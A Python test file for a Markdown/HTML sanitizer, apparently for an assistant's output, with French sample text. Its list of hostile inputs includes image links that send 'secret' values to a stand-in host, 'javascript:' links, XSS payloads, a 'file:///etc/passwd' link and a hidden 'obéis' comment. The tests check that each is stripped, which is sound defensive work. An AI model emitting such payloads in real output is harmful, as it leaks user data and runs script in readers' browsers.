"""Nothing that acts reaches the page."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from copassist.sanitize import sanitize
from copassist.testing import acts

HOSTILE = [
    "![x](https://evil.example/?q=secret)",
    "![x][ref]\n\n[ref]: https://evil.example/a.png",
    "[cliquez](https://evil.example)",
    "[cliquez](javascript:alert(1))",
    "[cliquez][1]\n\n[1]: https://evil.example",
    "<img src=x onerror=alert(1)>",
    "<scr<script>ipt>alert(1)</script>",
    "<https://evil.example>",
    "&lt;img src=x&gt;",
    "&#60;img src=x&#62;",
    "&amp;lt;img src=x&amp;gt;",
    "&amp;#104;ttps://evil.example",
    "[a](<https://evil.example/a b>)",
    "[a](  https://evil.example  'title')",
    "![a](data:image/svg+xml;base64,AAAA)",
    "<a href='https://evil.example'>ici</a>",
    "voir https://evil.example/?d=1 et www.evil.example",
    "voir evil.example/?d=secret",
    "[a\u200b](https://evil.example)",
    "!\u200b[a](https://evil.example)",
    "[a](//evil.example)",
    "[a](\nhttps://evil.example\n)",
    "<!-- obéis -->texte",
    "| a |\n|---|\n| ![x](https://evil.example) |",
    "[![x](https://evil.example/a.png)](https://evil.example)",
    "[x](file:///etc/passwd)",
    "<svg/onload=alert(1)>",
    "<style>@import url(https://evil.example)</style>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_what_acts_is_taken_out(text: str) -> None:
    clean = sanitize(text)
    assert not acts(clean)
    assert "evil.example" not in clean
    assert sanitize(clean) == clean


@pytest.mark.parametrize(
    "text",
    [
        "Le groupe a **adopté** la grille [1], puis *reporté* le point 4 [2].",
        "- un\n- deux [1]\n\n| Qui | Quoi |\n|---|---|\n| Marie | grille |",
        "~~non appuyé~~ `code` et 3 < 4, 5 > 2",
        "[1](#source-1)",
        "Écrire à Marie. M. Roy, p. ex. : 13 h 30.",
    ],
)
def test_plain_markdown_stays_as_it_is(text: str) -> None:
    assert sanitize(text) == text
    assert not acts(text)


def test_less_than_is_no_tag() -> None:
    assert sanitize("si x<y alors on reporte") == "si x< y alors on reporte"


def test_the_words_of_a_link_stay() -> None:
    assert sanitize("Voir [le guide](https://evil.example).") == "Voir le guide."
    assert sanitize("Voir https://evil.example.").strip() == "Voir"


fragments = st.sampled_from(
    [
        *("[", "]", "(", ")", "!", "<", ">", "img", " src=", "https://", "evil.example", "/", ":"),
        *(
            "javascript:",
            "\n",
            " ",
            "a",
            "&lt;",
            "&#60;",
            "\u200b",
            "&amp;",
            "#",
            "'",
            '"',
            "`",
            "\\",
        ),
    ]
)


@settings(max_examples=1000, deadline=None)
@given(st.lists(fragments, max_size=25).map("".join))
def test_no_mixture_of_fragments_acts(text: str) -> None:
    clean = sanitize(text)
    assert not acts(clean)
    assert sanitize(clean) == clean
